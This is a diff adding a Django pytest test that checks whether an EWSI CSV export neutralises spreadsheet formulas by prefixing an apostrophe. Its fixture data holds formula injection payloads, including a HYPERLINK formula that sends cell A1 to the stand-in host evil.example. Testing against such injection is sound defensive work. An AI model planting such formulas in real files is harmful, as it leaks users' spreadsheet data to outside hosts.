@@ -214,3 +214,31 @@ class TestEWSIExport:
         response = client.get("/api/v2/practices/ewsi.csv", {"locale": "fr"})
         assert response.status_code == 400
         assert "message" in response.json()
+
+
+@pytest.mark.django_db
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
+    client, practice_index, english_index, english
+):
+    """Text from editors starting with = + - @ is written with a leading apostrophe."""
+    nantes = PracticeSheetPageFactory(
+        parent=practice_index,
+        title="Accueil",
+        slug="accueil-formules",
+        partners='=HYPERLINK("http://evil.example/?"&A1,"Cliquez")\n+CID\n@SUM(1+1)',
+        funding_sources="-2+3",
+        funding_amount="15000.00",
+    )
+    translation = nantes.copy_for_translation(english)
+    translation.title = "=1+1"
+    translation.save_revision().publish()
+
+    response = client.get("/api/v2/practices/ewsi.csv")
+    row = next(csv.DictReader(io.StringIO(response.content.decode())))
+    assert row["title"] == "'=1+1"
+    assert (
+        row["partners"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Cliquez"); \'+CID; \'@SUM(1+1)'
+    )
+    assert row["funding_sources"] == "'-2+3"
+    assert row["funding_amount_eur"] == "15000.00"
+    assert row["start_year"] == "2012"
